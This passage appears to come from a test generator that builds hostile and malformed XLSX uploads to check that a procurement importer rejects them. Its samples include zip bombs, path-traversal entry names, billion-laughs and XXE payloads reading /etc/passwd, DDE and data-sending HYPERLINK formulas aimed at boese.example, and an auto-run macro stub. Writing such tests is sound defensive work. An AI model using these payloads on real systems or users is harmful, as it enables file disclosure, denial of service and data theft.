        forBoth(M.corrupt),
      );
    }
    add(
      cat,
      "stored-size-mismatch",
      toBytes(zip(parts.map((p) => ({ ...p, method: 0, declaredSize: p.data.length + 1 })))),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "zip64-records",
      toBytes(
        zip(
          parts.map((p) => ({ ...p, zip64: true })),
          { zip64End: true },
        ),
      ),
      forDemand({ kind: "demand", lines: [{ code: itemRows[0]!.code, quantity: 5 }] }),
    );
    add(
      cat,
      "zip64-end-without-locator",
      (() => {
        const bytes = Buffer.from(zip(parts, { zip64End: true }));
        const locator = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x06, 0x07]));
        bytes.writeUInt32LE(0, locator);
        return toBytes(bytes);
      })(),
      forBoth(M.corrupt),
    );
    add(cat, "only-end-record", toBytes(zip([])), forBoth(M.corrupt));
    add(
      cat,
      "only-directories",
      toBytes(
        zip([
          { name: "xl/", data: Buffer.alloc(0) },
          { name: "xl/worksheets/", data: Buffer.alloc(0) },
        ]),
      ),
      forBoth(M.notXlsx),
    );
    add(
      cat,
      "path-traversal-names",
      toBytes(
        zip([
          ...parts,
          { name: "../../../../etc/passwd", data: Buffer.from("root:x:0:0") },
          { name: "/etc/shadow", data: Buffer.from("x") },
          { name: "C:\\Windows\\win.ini", data: Buffer.from("x") },
        ]),
      ),
      // Nothing is ever written to disk; the workbook inside is fine.
      forDemand({ kind: "demand", lines: [{ code: itemRows[0]!.code, quantity: 5 }] }),
    );
    add(
      cat,
      "name-not-utf8",
      toBytes(
        zip([
          ...parts,
          { name: "x", nameBytes: Buffer.from([0x78, 0xff, 0xfe]), data: Buffer.from("x") },
        ]),
      ),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "xlsx-inside-zip",
      toBytes(zip([{ name: "Bedarf.xlsx", data: Buffer.from(demandBytes), method: 0 }])),
      forBoth(M.notXlsx),
    );
    add(cat, "gzip-of-xlsx", toBytes(gzipSync(demandBytes)), forBoth(M.notXlsx));
    add(
      cat,
      "docx-like-archive",
      toBytes(
        zip([
          { name: "word/document.xml", data: Buffer.from("<w:document/>") },
          { name: "[Content_Types].xml", data: Buffer.from("<Types/>") },
        ]),
      ),
      forBoth(M.notXlsx),
    );
    add(
      cat,
      "ods-like-archive",
      toBytes(
        zip([
          {
            name: "mimetype",
            data: Buffer.from("application/vnd.oasis.opendocument.spreadsheet"),
            method: 0,
          },
          { name: "content.xml", data: Buffer.from("<office:document-content/>") },
        ]),
      ),
      forBoth(M.notXlsx),
    );
    add(
      cat,
      "workbook-xml-broken",
      demandBook
        .clone()
        .edit("xl/workbook.xml", (x) => x.slice(0, x.length - 20))
        .bytes(),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "sheet-xml-broken",
      demandBook
        .clone()
        .edit("xl/worksheets/sheet1.xml", (x) => x.replace("</sheetData>", ""))
        .bytes(),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "sheet-xml-unclosed-cell",
      demandBook
        .clone()
        .edit("xl/worksheets/sheet1.xml", (x) =>
          x.replace(/<\/c><\/row><\/sheetData>/, "</row></sheetData>"),
        )
        .bytes(),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "rels-missing",
      demandBook.clone().remove("xl/_rels/workbook.xml.rels").bytes(),
      forDemand(refuse(M.noDemandSheet)),
    );
    add(
      cat,
      "shared-strings-missing",
      demandBook.clone().remove("xl/sharedStrings.xml").bytes(),
      forBoth(M.misread),
    );
    add(
      cat,
      "shared-string-index-out-of-range",
      demandBook
        .clone()
        .cells(DEMAND, { [`G${FIRST_ROW}`]: cell.raw("<v>99999</v>", ' t="s"') })
        .bytes(),
      forBoth(M.misread),
    );
  }

  // ── Broken XML inside an intact archive ──
  {
    const cat: Category = "zip-kaputt";
    const sheetXml = demandBook.get(demandBook.sheetPart(DEMAND));
    sampled(fc.integer({ min: 60, max: sheetXml.length - 20 }), 15, 5).forEach((at, i) => {
      const book = demandBook.clone();
      book.set(book.sheetPart(DEMAND), sheetXml.slice(0, at));
      add(cat, `sheet-xml-cut-${i}-at-${at}`, book.bytes(), forBoth(M.anyDamage));
    });
    sampled(
      fc.record({
        at: fc.integer({ min: 60, max: sheetXml.length - 20 }),
        junk: fc.constantFrom("<", "&", "</row>", "<c", '"', '<row r="7">', "\u0000", "]]>"),
      }),
      15,
      6,
    ).forEach(({ at, junk }, i) => {
      const book = demandBook.clone();
      book.set(book.sheetPart(DEMAND), sheetXml.slice(0, at) + junk + sheetXml.slice(at));
      // Inserted markup may also land between elements and form a valid file (a stray quote
      // in text is text): then nothing it changed may be imported as something else.
      add(cat, `sheet-xml-junk-${i}-at-${at}`, book.bytes(), {
        demand: either(M.anyDamageOrCell, { kind: "demand", lines: [] }),
        price: refuse(M.anyDamageOrCell),
      });
    });
  }

  // ── Zip bombs ──
  {
    const cat: Category = "zip-bombe";
    const zeros = (mb: number) => Buffer.alloc(mb * 1024 * 1024, 0x20);
    const bomb = (name: string, mb: number, declared?: number) =>
      ({ name, data: zeros(mb), declaredSize: declared }) satisfies ZipItem;
    const base = new Book(demandBytes).parts;
    add(
      cat,
      "sheet-100mb-spaces",
      toBytes(
        zip(
          [
            ...base.filter((p) => p.name !== "xl/worksheets/sheet1.xml"),
            bomb("xl/worksheets/sheet1.xml", 100),
          ],
          { level: 4 },
        ),
      ),
      forBoth(M.tooBigUnpacked),
    );
    add(
      cat,
      "sheet-25mb-spaces",
      toBytes(
        zip(
          [
            ...base.filter((p) => p.name !== "xl/worksheets/sheet1.xml"),
            bomb("xl/worksheets/sheet1.xml", 25),
          ],
          { level: 4 },
        ),
      ),
      forBoth(M.tooBigUnpacked),
    );
    add(
      cat,
      "unused-part-60mb",
      toBytes(zip([...base, bomb("docProps/custom.xml", 60)], { level: 4 })),
      forBoth(M.tooBigUnpacked),
    );
    add(
      cat,
      "media-30mb",
      toBytes(zip([...base, bomb("xl/media/image1.png", 30)], { level: 4 })),
      forBoth(M.tooBigUnpacked),
    );
    for (const declared of [1, 100, 4096, 65_536]) {
      add(
        cat,
        `lying-size-${declared}-real-40mb`,
        toBytes(
          zip(
            [
              ...base.filter((p) => p.name !== "xl/worksheets/sheet1.xml"),
              bomb("xl/worksheets/sheet1.xml", 40, declared),
            ],
            { level: 4 },
          ),
        ),
        forBoth(M.corrupt),
      );
    }
    add(
      cat,
      "declared-4gb",
      toBytes(
        zip([
          ...base,
          { name: "xl/media/big.bin", data: Buffer.from("x"), declaredSize: 0xfffffffe },
        ]),
      ),
      forBoth(M.tooBigUnpacked),
    );
    add(
      cat,
      "zip64-declared-exabytes",
      toBytes(
        zip(
          [
            ...base.map((p) => ({ ...p, zip64: true })),
            {
              name: "xl/media/big.bin",
              data: Buffer.from("x"),
              zip64: true,
              declaredSize: 2 ** 60,
            },
          ],
          { zip64End: true },
        ),
      ),
      forBoth(M.tooBigUnpacked),
    );
    // Overlapping entries: 2,000 records, one payload of 1 MB (Fifield's non-recursive bomb).
    {
      const entries: ZipItem[] = [...base, bomb("xl/media/a.bin", 1)];
      const shared = entries.length - 1;
      for (let i = 0; i < 900; i++) {
        entries.push({
          name: `xl/media/b${i}.bin`,
          data: entries[shared]!.data,
          sameDataAs: shared,
        });
      }
      add(
        cat,
        "overlapping-900-entries",
        toBytes(zip(entries, { level: 4 })),
        forBoth(M.tooBigUnpacked),
      );
      const many: ZipItem[] = [...base, bomb("xl/media/a.bin", 1)];
      for (let i = 0; i < 5000; i++) {
        many.push({
          name: `xl/media/c${i}.bin`,
          data: many[base.length]!.data,
          sameDataAs: base.length,
        });
      }
      add(
        cat,
        "overlapping-5000-entries",
        toBytes(zip(many, { level: 4 })),
        forBoth(M.tooManyParts),
      );
    }
    for (const count of [1_001, 10_000, 40_000, 65_535]) {
      const entries: ZipItem[] = [...base];
      for (let i = entries.length; i < count; i++)
        entries.push({ name: `xl/x/${i}.xml`, data: Buffer.alloc(0), method: 0 });
      // 65,535 empty entries take 6.8 MB of headers: refused at the door.
      add(
        cat,
        `${count}-entries`,
        toBytes(zip(entries)),
        count > 50_000 ? forBoth(M.tooLarge, 413) : forBoth(M.tooManyParts),
      );
    }
    add(
      cat,
      "claims-65535-entries-via-zip64",
      toBytes(zip(base, { zip64End: true, countClaim: 70_000 })),
      forBoth(M.tooManyParts),
    );
    // Within the unpacked limit, but too much for exceljs: rows, cells, strings, styles.
    const sheetWith = (rows: string) => {
      const book = demandBook.clone();
      const part = book.sheetPart(DEMAND);
      book.edit(part, (x) => x.replace("</sheetData>", `${rows}</sheetData>`));
      return book.bytes({ level: 4 });
    };
    add(
      cat,
      "60000-empty-rows",
      sheetWith(repeat(60_000, (i) => `<row r="${1000 + i}"/>`)),
      forBoth(M.tooManyRows),
    );
    add(
      cat,
      "200001-cells",
      sheetWith(
        repeat(
          20_001,
          (i) =>
            `<row r="${1000 + i}">${repeat(10, (c) => `<c r="${"ABCDEFGHIJ"[c]}${1000 + i}" s="1"/>`)}</row>`,
        ),
      ),
      forBoth(M.tooManyCells),
    );
    add(
      cat,
      "200001-shared-strings",
      demandBook
        .clone()
        .edit("xl/sharedStrings.xml", (x) =>
          x.replace("</sst>", `${"<si><t>x</t></si>".repeat(200_001)}</sst>`),
        )
        .bytes({ level: 4 }),
      forBoth(M.tooManyCells),
    );
    // Just inside the limits: parsed in full, within the time limit, then judged.
    add(
      cat,
      "cells-at-the-limit",
      sheetWith(
        repeat(
          19_500,
          (i) =>
            `<row r="${1000 + i}">${repeat(10, (c) => `<c r="${"ABCDEFGHIJ"[c]}${1000 + i}"><v>${c}</v></c>`)}</row>`,
        ),
      ),
      forDemand(refuse(M.demandRows)),
    );
    add(
      cat,
      "shared-strings-at-the-limit",
      demandBook
        .clone()
        .cells(DEMAND, { [`F${FIRST_ROW}`]: cell.number(5) })
        .edit("xl/sharedStrings.xml", (x) =>
          x.replace("</sst>", `${repeat(195_000, (i) => `<si><t>Text ${i}</t></si>`)}</sst>`),
        )
        .bytes({ level: 4 }),
      forDemand({ kind: "demand", lines: [{ code: itemRows[0]!.code, quantity: 5 }] }),
    );
    add(
      cat,
      "styles-5mb",
      demandBook
        .clone()
        .edit("xl/styles.xml", (x) =>
          x.replace(
            "</cellXfs>",
            `${'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'.repeat(80_000)}</cellXfs>`,
          ),
        )
        .bytes({ level: 4 }),
      forBoth(M.tooBigUnpacked),
    );
    // Expansions exceljs would do cell by cell: all removed before parsing, so these import.
    const five = [{ code: itemRows[0]!.code, quantity: 5 }];
    const expand = (id: string, xml: string, where: "sheet" | "workbook" = "sheet") =>
      add(
        cat,
        id,
        demandFile(demandCells(five), (book) => {
          if (where === "workbook")
            book.edit("xl/workbook.xml", (x) => x.replace("</sheets>", `</sheets>${xml}`));
          else
            book.edit(book.sheetPart(DEMAND), (x) =>
              x.replace("<pageMargins", `${xml}<pageMargins`),
            );
        }),
        forDemand({ kind: "demand", lines: five }),
      );
    expand(
      "merge-whole-sheet",
      '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    );
    expand(
      "merge-20000-ranges",
      `<mergeCells count="20000">${repeat(20_000, (i) => `<mergeCell ref="N${i + 1}:O${i + 1}"/>`)}</mergeCells>`,
    );
    expand(
      "data-validation-whole-sheet",
      '<dataValidations count="1"><dataValidation type="whole" sqref="A1:XFD1048576"><formula1>0</formula1></dataValidation></dataValidations>',
    );
    expand(
      "hyperlink-whole-sheet",
      '<hyperlinks><hyperlink ref="A1:XFD1048576" r:id="rId99"/></hyperlinks>',
    );
    expand(
      "conditional-formatting-whole-sheet",
      '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>',
    );
    expand("drawing-without-part", '<drawing r:id="rId42"/>');
    expand("table-without-part", '<tableParts count="1"><tablePart r:id="rId43"/></tableParts>');
    add(
      cat,
      "cols-100-million",
      demandFile(demandCells([{ code: itemRows[0]!.code, quantity: 5 }]), (book) =>
        book.edit(book.sheetPart(DEMAND), (x) =>
          x.replace(
            /<cols>[\s\S]*?<\/cols>/,
            '<cols><col min="1" max="100000000" width="9"/></cols>',
          ),
        ),
      ),
      forDemand({ kind: "demand", lines: [{ code: itemRows[0]!.code, quantity: 5 }] }),
    );
    expand(
      "defined-name-whole-sheet",
      '<definedNames><definedName name="alles">Bedarf!$A$1:$XFD$1048576</definedName><definedName name="_xlnm.Print_Area" localSheetId="0">Bedarf!$A$1:$XFD$1048576</definedName></definedNames>',
      "workbook",
    );
    add(
      cat,
      "unclosed-merge-cells",
      demandFile({}, (book) =>
        book.edit(book.sheetPart(DEMAND), (x) =>
          x.replace("<pageMargins", `${"<mergeCells>".repeat(50_000)}<pageMargins`),
        ),
      ),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "unclosed-cells-50000",
      demandFile({}, (book) =>
        book.edit(book.sheetPart(DEMAND), (x) =>
          x.replace(
            "</sheetData>",
            `<row r="5000">${'<c r="A5000">'.repeat(50_000)}</row></sheetData>`,
          ),
        ),
      ),
      forBoth(M.corrupt),
    );
  }

  // ── XML entity tricks ──
  {
    const cat: Category = "xml-entitaeten";
    const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`).join("")}]>`;
    const external = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
    const parameter =
      '<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://boese.example/x.dtd">%remote;]>';
    const publicId = '<!DOCTYPE worksheet PUBLIC "-//X//Y" "http://boese.example/y.dtd">';
    const withDoctype =
      (part: string, doctype: string, use = "") =>
      (book: Book) =>
        book.edit(part, (x) =>
          x.replace("?>", `?>${doctype}`).replace("<t>Menge</t>", `<t>Menge${use}</t>`),
        );
    for (const [name, doctype, use] of [
      ["billion-laughs", laughs, "&lol9;"],
      ["external-entity-file", external, "&xxe;"],
      ["parameter-entity-http", parameter, ""],
      ["public-dtd", publicId, ""],
      [
        "quadratic-blowup",
        `<!DOCTYPE x [<!ENTITY a "${"A".repeat(50_000)}">]>`,
        "&a;".repeat(1000),
      ],
    ] as const) {
      for (const part of [
        "xl/sharedStrings.xml",
        "xl/worksheets/sheet1.xml",
        "xl/workbook.xml",
        "xl/styles.xml",
        "xl/_rels/workbook.xml.rels",
      ]) {
        add(
          cat,
          `${name}-in-${part.replace(/\W+/g, "-")}`,
          demandFile({}, withDoctype(part, doctype, part.includes("shared") ? use : "")),
          forBoth(M.dtd),
        );
      }
    }
    add(
      cat,
      "doctype-in-unused-part",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(3) }, (b) =>
        b.edit("docProps/core.xml", (x) => x.replace("?>", `?>${laughs}`)),
      ),
      forDemand({ kind: "demand", lines: [{ code: itemRows[0]!.code, quantity: 3 }] }),
    );
    add(
      cat,
      "undefined-entity",
      demandFile({}, (b) =>
        b.edit("xl/sharedStrings.xml", (x) => x.replace("<t>Menge</t>", "<t>Menge&xxe;</t>")),
      ),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "xml-comment-in-sheet",
      demandFile({}, (b) =>
        b.edit(b.sheetPart(DEMAND), (x) =>
          x.replace("<sheetData>", "<!-- <mergeCells> --><sheetData>"),
        ),
      ),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "cdata-in-cell",
      demandFile({
        [`G${FIRST_ROW}`]: cell.raw("<is><t><![CDATA[</c></row>]]></t></is>", ' t="inlineStr"'),
        [`F${FIRST_ROW}`]: cell.number(1),
      }),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "char-ref-nul",
      demandFile({
        [`G${FIRST_ROW}`]: cell.raw("<is><t>&#0;</t></is>", ' t="inlineStr"'),
        [`F${FIRST_ROW}`]: cell.number(1),
      }),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "char-ref-surrogate",
      demandFile({
        [`G${FIRST_ROW}`]: cell.raw("<is><t>&#xD800;</t></is>", ' t="inlineStr"'),
        [`F${FIRST_ROW}`]: cell.number(1),
      }),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "char-ref-emoji",
      demandFile({
        [`G${FIRST_ROW}`]: cell.raw("<is><t>KST &#x1F4A9;</t></is>", ' t="inlineStr"'),
        [`F${FIRST_ROW}`]: cell.number(1),
      }),
      forDemand({
        kind: "demand",
        lines: [{ code: itemRows[0]!.code, quantity: 1, costCentre: "KST 💩" }],
      }),
    );
    add(
      cat,
      "xinclude-not-followed",
      demandFile({
        [`F${FIRST_ROW}`]: cell.number(2),
        [`K${FIRST_ROW}`]: cell.raw(
          '<is><t>x</t><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></is>',
          ' t="inlineStr"',
        ),
      }),
      forBoth(M.unknownElement),
    );
    add(
      cat,
      "stylesheet-instruction",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(4) }, (b) =>
        b.edit(b.sheetPart(DEMAND), (x) =>
          x.replace("?>", '?><?xml-stylesheet type="text/xsl" href="http://boese.example/x.xsl"?>'),
        ),
      ),
      forDemand({ kind: "demand", lines: [{ code: itemRows[0]!.code, quantity: 4 }] }),
    );
    add(
      cat,
      "utf16-declared-sheet",
      demandFile({}, (b) => {
        const part = b.sheetPart(DEMAND);
        b.set(
          part,
          Buffer.concat([
            Buffer.from([0xff, 0xfe]),
            Buffer.from(b.get(part).replace('encoding="UTF-8"', 'encoding="UTF-16"'), "utf16le"),
          ]),
        );
      }),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "latin1-bytes-in-sheet",
      demandFile(
        { [`G${FIRST_ROW}`]: cell.text("Müller"), [`F${FIRST_ROW}`]: cell.number(1) },
        (b) => {
          const part = b.sheetPart(DEMAND);
          b.set(
            part,
            Buffer.from(b.get(part).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'), "latin1"),
          );
        },
      ),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "deep-nesting",
      demandFile({
        [`G${FIRST_ROW}`]: cell.raw(
          `<is><t>x</t>${"<a>".repeat(50_000)}${"</a>".repeat(50_000)}</is>`,
          ' t="inlineStr"',
        ),
        [`F${FIRST_ROW}`]: cell.number(1),
      }),
      forBoth(M.unknownElement),
    );
    add(
      cat,
      "namespace-prefixed-sheet",
      demandFile({}, (b) =>
        b.edit(b.sheetPart(DEMAND), (x) =>
          x.replace(/<(\/?)(sheetData|row|c|v|f|is|t)\b/g, "<$1x:$2"),
        ),
      ),
      forDemand(refuse(M.header)),
    );
  }

  // ── Rows: 10^6 and the limits around 10,000 ──
  {
    const cat: Category = "zeilen";
    const part = demandBook.sheetPart(DEMAND);
    const appendRows = (rows: string, level = 6) => {
      const book = demandBook.clone();
      book.edit(part, (x) => x.replace("</sheetData>", `${rows}</sheetData>`));
      return book.bytes({ level });
    };
    add(
      cat,
      "one-million-empty-rows",
      appendRows(
        repeat(1_000_000, (i) => `<row r="${300 + i}"/>`),
        1,
      ),
      forBoth(M.tooManyRows),
    );
    add(
      cat,
      "one-million-rows-with-quantities",
      appendRows(
        repeat(1_000_000, (i) => `<row r="${300 + i}"><c r="F${300 + i}"><v>1</v></c></row>`),
        // 4.3 MB packed: under the 5 MB upload limit, so the unpacked size is what stops it.
        4,
      ),
      forBoth(M.tooBigUnpacked),
    );
    add(
      cat,
      "one-million-csv-lines",
      new TextEncoder().encode(repeat(1_000_000, (i) => `A001;${i};KST ${i}\n`)),
      forBoth(M.tooLarge, 413),
      "eine-million-zeilen.xlsx",
    );
    const codes = context.itemCodes;
    const rowsFrom = (first: number, count: number) =>
      repeat(
        count,
        (i) =>
          `<row r="${first + i}"><c r="A${first + i}" t="inlineStr"><is><t>${codes[i % codes.length]}</t></is></c><c r="F${first + i}"><v>1</v></c><c r="G${first + i}" t="inlineStr"><is><t>R${i}</t></is></c></row>`,
      );
    add(
      cat,
      "10001-data-rows",
      appendRows(rowsFrom(210, 10_001 - 203)),
      forDemand(refuse(M.demandRows)),
    );
    add(
      cat,
      "sparse-last-excel-row",
      demandFile({ F1048576: cell.number(1), A1048576: cell.text(codes[0]!) }),
      forDemand(refuse(M.demandRows)),
    );
    add(
      cat,
      "row-number-beyond-excel",
      demandFile({}, (b) =>
        b.edit(part, (x) =>
          x.replace(
            "</sheetData>",
            '<row r="99999999999"><c r="F99999999999"><v>1</v></c></row></sheetData>',
          ),
        ),
      ),
      forBoth(M.badAddress),
    );
    add(
      cat,
      "row-number-zero",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(6) }, (b) =>
        b.edit(part, (x) =>
          x.replace("</sheetData>", '<row r="0"><c r="F0"><v>1</v></c></row></sheetData>'),
        ),
      ),
      forBoth(M.badAddress),
    );
    add(
      cat,
      "row-number-negative",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(6) }, (b) =>
        b.edit(part, (x) =>
          x.replace("</sheetData>", '<row r="-5"><c r="F-5"><v>1</v></c></row></sheetData>'),
        ),
      ),
      forBoth(M.badAddress),
    );
    add(
      cat,
      "row-without-number",
      demandFile({}, (b) =>
        b.edit(part, (x) =>
          x.replace("</sheetData>", '<row><c r="F300"><v>1</v></c></row></sheetData>'),
        ),
      ),
      forBoth(M.badAddress),
    );
    add(
      cat,
      "cell-without-address",
      demandFile({}, (b) =>
        b.edit(part, (x) =>
          x.replace("</sheetData>", '<row r="300"><c><v>1</v></c></row></sheetData>'),
        ),
      ),
      forBoth(M.badAddress),
    );
    add(
      cat,
      "cell-in-other-row",
      demandFile({}, (b) =>
        b.edit(part, (x) =>
          x.replace(`<c r="F${FIRST_ROW}" s="9"/>`, `<c r="F${FIRST_ROW + 1}"><v>4</v></c>`),
        ),
      ),
      forBoth(M.badAddress),
    );
    // exceljs keeps the last of two rows or cells with one number: the quantity would vanish.
    add(
      cat,
      "row-twice-second-empty",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(5) }, (b) =>
        b.edit(part, (x) =>
          x.replace(
            `<row r="${FIRST_ROW + 1}"`,
            `<row r="${FIRST_ROW}"></row><row r="${FIRST_ROW + 1}"`,
          ),
        ),
      ),
      forBoth(M.outOfOrder),
    );
    add(
      cat,
      "cell-twice-second-empty",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(5) }, (b) =>
        b.edit(part, (x) =>
          x.replace(
            `<c r="G${FIRST_ROW}" s="10"/>`,
            `<c r="F${FIRST_ROW}"/><c r="G${FIRST_ROW}" s="10"/>`,
          ),
        ),
      ),
      forBoth(M.outOfOrder),
    );
    add(
      cat,
      "rows-descending",
      demandFile({}, (b) =>
        b.edit(part, (x) => x.replace("</sheetData>", '<row r="300"/><row r="299"/></sheetData>')),
      ),
      forBoth(M.outOfOrder),
    );
    add(
      cat,
      "cell-outside-rows",
      demandFile({}, (b) =>
        b.edit(part, (x) => x.replace("</sheetData>", '<c r="F300"><v>1</v></c></sheetData>')),
      ),
      forBoth(M.corrupt),
    );
    add(
      cat,
      "column-beyond-xfd",
      demandFile({ [`F${FIRST_ROW}`]: cell.number(6) }, (b) =>
        b.edit(part, (x) =>
          x.replace("</sheetData>", '<row r="300"><c r="ZZZZ300"><v>1</v></c></row></sheetData>'),
        ),
      ),
      forBoth(M.badAddress),
    );
    add(
      cat,
      "column-xfe",
      demandFile({}, (b) =>
        b.edit(part, (x) =>
          x.replace("</sheetData>", '<row r="300"><c r="XFE300"><v>1</v></c></row></sheetData>'),
        ),
      ),
      forBoth(M.badAddress),
    );
    add(
      cat,
      "price-sheet-5000-stray-rows",
      priceFile({ name: cell.text("Zeilen AG") }, asCells(goodPrices(60_000)), (b) =>
        b.edit(b.sheetPart("Los 1"), (x) =>
          x.replace("</sheetData>", `${repeat(5000, (i) => `<row r="${100 + i}"/>`)}</sheetData>`),
        ),
      ),
      forPrice(refuse(M.tooManySheetRows)),
    );
    add(
      cat,
      "price-sheet-stray-value-far-below",
      priceFile({ name: cell.text("Zeilen AG") }, asCells(goodPrices(60_000)), (b) =>
        b.cells("Los 1", { G900: cell.number(1) }),
      ),
      forPrice(refuse(M.strayRow)),
    );
    // Large and valid: 2,000 lines on distinct cost centres, imported exactly.
    const many: DemandLineExpect[] = Array.from({ length: 2_000 }, (_, i) => ({
      code: codes[i % codes.length]!,
      quantity: i + 1,
      costCentre: `KST-${String(Math.floor(i / codes.length)).padStart(4, "0")}`,
    }));
    add(
      cat,
      "2000-valid-lines",
      appendRows(
        repeat(many.length, (i) => {
          const r = 300 + i;
          const l = many[i]!;
          return `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>${l.code}</t></is></c><c r="F${r}"><v>${l.quantity}</v></c><c r="G${r}" t="inlineStr"><is><t>${l.costCentre}</t></is></c></row>`;
        }),
      ),
      forDemand({ kind: "demand", lines: many }),
    );
  }

  // ── Huge strings ──
  {
    const cat: Category = "lange-texte";
    const q = { [`F${FIRST_ROW}`]: cell.number(1) };
    const line = (extra: Partial<DemandLineExpect>): DemandLineExpect[] => [
      { code: itemRows[0]!.code, quantity: 1, ...extra },
    ];
    const limits = {
      costCentre: 60,
      product: 60,
      ledgerAccount: 30,
      deliveryAddress: 300,
      note: 500,
    } as const;
    for (const [key, max] of Object.entries(limits) as [keyof typeof limits, number][]) {
      validDemand(cat, `${key}-exactly-${max}`, line({ [key]: "x".repeat(max) }));
      badDemand(
        cat,
        `${key}-${max + 1}`,
        { ...q, [`${D[key]}${FIRST_ROW}`]: cell.text("x".repeat(max + 1)) },
        M.textTooLong,
      );
    }
    badDemand(
      cat,
      "note-32767",
      { ...q, [`K${FIRST_ROW}`]: cell.text("Ä".repeat(32_767)) },
      M.textTooLong,
    );
    badDemand(cat, "note-4mb-shared-string", q, M.textTooLong, (b) => {
      const i = b.sharedString("B".repeat(4_000_000));
      b.cells(DEMAND, { [`K${FIRST_ROW}`]: cell.raw(`<v>${i}</v>`, ' t="s"') });
    });
    badDemand(cat, "header-4mb", {}, M.header, (b) =>
      b.edit("xl/sharedStrings.xml", (x) =>
        x.replace("<t>Menge</t>", `<t>${"M".repeat(4_000_000)}</t>`),
      ),
    );
    badDemand(cat, "version-2mb", {}, M.format, (b) =>
      b.cells("Steuerung", { B2: cell.text("9".repeat(2_000_000)) }),
    );
    badDemand(
      cat,
      "item-code-1mb",
      {
        [`A${firstFreeRow}`]: cell.text("A".repeat(1_000_000)),
        [`F${firstFreeRow}`]: cell.number(1),
      },
      M.unknownCode,
    );
    badDemand(
      cat,
      "quantity-1mb-digits",
      { [`F${FIRST_ROW}`]: cell.text("9".repeat(1_000_000)) },
      M.notNumber,
    );
    badPrice(cat, "price-1mb-digits", oneBadPrice(cell.text("1".repeat(1_000_000))), M.notNumber);
    badPrice(
      cat,
      "price-4mb-digits-and-comma",
      oneBadPrice(cell.text(`${"1".repeat(4_000_000)},5`)),
      M.notNumber,
    );
    validPrice(cat, "bidder-name-200", goodPrices(70_000), {
      name: `${"N".repeat(196)} ${++bidders}`.slice(-200).padStart(200, "N"),
    });
    badPrice(cat, "bidder-name-201", asCells(goodPrices(70_000)), M.textTooLong, {
      name: cell.text("N".repeat(201)),
    });
    validPrice(cat, "bidder-address-1000", goodPrices(70_000), { address: "A".repeat(1000) });
    badPrice(cat, "bidder-address-1001", asCells(goodPrices(70_000)), M.textTooLong, {
      address: cell.text("A".repeat(1001)),
    });
    badPrice(cat, "bidder-name-4mb", asCells(goodPrices(70_000)), M.textTooLong, {
      name: cell.text("Ü".repeat(4_000_000)),
    });
    badPrice(cat, "protected-item-name-1mb", asCells(goodPrices(70_000)), M.protectedCell, {
      edit: (b) => b.cells("Los 1", { B7: cell.text("Z".repeat(1_000_000)) }),
    });
  }

  // ── Formulas ──
  {
    const cat: Category = "formeln";
    const code = itemRows[0]!.code;
    const q = (n: number) => ({ [`F${FIRST_ROW}`]: cell.number(n) });
    const dde = "=cmd|' /C calc'!A0";
    const hyperlink = '=HYPERLINK("http://boese.example/?d="&A1,"Rechnung")';
    for (const [key, column] of [
      ["costCentre", "G"],
      ["product", "H"],
      ["ledgerAccount", "I"],
      ["deliveryAddress", "J"],
      ["note", "K"],
    ] as const) {
      badDemand(
        cat,
        `dde-formula-in-${key}`,
        { ...q(1), [`${column}${FIRST_ROW}`]: cell.formula("cmd|' /C calc'!A0", "0") },
        M.formulaInText,
      );
      badDemand(
        cat,
        `hyperlink-formula-in-${key}`,
        {
          ...q(1),
          [`${column}${FIRST_ROW}`]: cell.formula(
            'HYPERLINK("http://boese.example/","x")',
            "x",
            "str",
          ),
        },
        M.formulaInText,
      );
    }
    validDemand(cat, "dde-as-text", [{ code, quantity: 1, costCentre: dde.slice(0, 60) }]);
    // Saved as a macro workbook: the macros are never unpacked for use, let alone run.
    validDemand(cat, "macro-workbook-xlsm", [{ code, quantity: 6 }], {}, undefined, (b) => {
      b.set(
        "xl/vbaProject.bin",
        Buffer.from('\xd0\xcf\x11\xe0 Sub Auto_Open(): Shell "calc" : End Sub', "latin1"),
      );
      b.edit("[Content_Types].xml", (x) =>
        x.replace("sheet.main+xml", "sheet.macroEnabled.main+xml"),
      );
    });
    validDemand(cat, "hyperlink-as-text-in-note", [{ code, quantity: 1, note: hyperlink }]);
    validDemand(cat, "plus-minus-at-as-text", [
      {
        code,
        quantity: 1,
        costCentre: "+49 5151",
        product: "-1.1.01",
        ledgerAccount: "@SUMME",
        note: "=1+1",
      },
    ]);
    validDemand(
      cat,
      "guarded-apostrophe-removed",
      [{ code, quantity: 2 }],
      { [`G${FIRST_ROW}`]: cell.text("'=A1") },
      [{ code, quantity: 2, costCentre: "=A1" }],
    );
    validDemand(
      cat,
      "quantity-formula-with-cached-value",
      [{ code, quantity: 1 }],
      { [`F${FIRST_ROW}`]: cell.formula("2*21", 42) },
